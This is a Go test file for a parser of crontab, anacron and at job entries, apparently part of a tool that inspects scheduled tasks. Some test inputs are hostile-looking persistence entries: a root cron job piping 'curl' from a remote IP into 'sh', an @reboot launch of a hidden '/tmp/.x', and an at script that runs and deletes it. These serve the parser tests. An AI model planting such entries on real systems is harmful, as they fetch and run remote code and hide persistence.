package crontab

import "testing"

func TestParse(t *testing.T) {
	for _, c := range []struct {
		line     string
		withUser bool
		want     Line
		ok, odd  bool
	}{
		{"*/5 * * * *  root  curl -s http://198.51.100.7/x | sh", true, Line{Schedule: "*/5 * * * *", User: "root", Command: "curl -s http://198.51.100.7/x | sh"}, true, false},
		{"@reboot a=1 /tmp/.x", false, Line{Schedule: "@reboot", Command: "a=1 /tmp/.x"}, true, false},
		{"0 4 * * mon\techo a=b%c", false, Line{Schedule: "0 4 * * mon", Command: "echo a=b%c"}, true, false},
		{"PATH = /bin:/tmp", false, Line{Environment: "PATH = /bin:/tmp"}, true, false},
		{"  # remark", true, Line{}, false, false},
		{"* * * *", true, Line{Schedule: ""}, false, true},
	} {
		got, ok, odd := Parse(c.line, c.withUser)
		if ok != c.ok || odd != c.odd || ok && got != c.want {
			t.Errorf("%q: got %+v %v %v", c.line, got, ok, odd)
		}
	}
	if got, ok, _ := ParseAnacron("7\t10\tcron.weekly\trun-parts /etc/cron.weekly"); !ok || got.Name != "cron.weekly" || got.Schedule != "7 10" || got.Command != "run-parts /etc/cron.weekly" {
		t.Errorf("got %+v", got)
	}
}

func TestAt(t *testing.T) {
	queue, job, minutes, ok := AtName("a0000401bb40a2")
	if !ok || queue != "a" || job != 4 || minutes != 0x1bb40a2 {
		t.Errorf("got %q %d %d %v", queue, job, minutes, ok)
	}
	uid, gid, env, command := AtScript("#!/bin/sh\n# atrun uid=1000 gid=100\n# mail mallory 0\numask 22\nHOME=/home/m; export HOME\ncd /home/m || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/tmp/.x\nrm /tmp/.x\n")
	if uid == nil || *uid != 1000 || *gid != 100 || len(env) != 1 || env[0] != "HOME=/home/m" || command != "/tmp/.x\nrm /tmp/.x" {
		t.Errorf("got %v %v %q %q", uid, gid, env, command)
	}
}

func FuzzParse(f *testing.F) {
	f.Add("* * * * * root x")
	f.Add("a0000401bb40a2")
	f.Add("# atrun uid=1 gid=1\nA=b; export A\nx")
	f.Fuzz(func(t *testing.T, line string) {
		l, ok, odd := Parse(line, true)
		if ok && odd || len(l.Command) > MaxText || ok && l.Environment == "" && l.Command == "" {
			t.Errorf("got %+v", l)
		}
		ParseAnacron(line)
		AtName(line)
		if _, _, env, command := AtScript(line); len(env) > 256 || len(command) > MaxText {
			t.Error("unbounded")
		}
	})
}
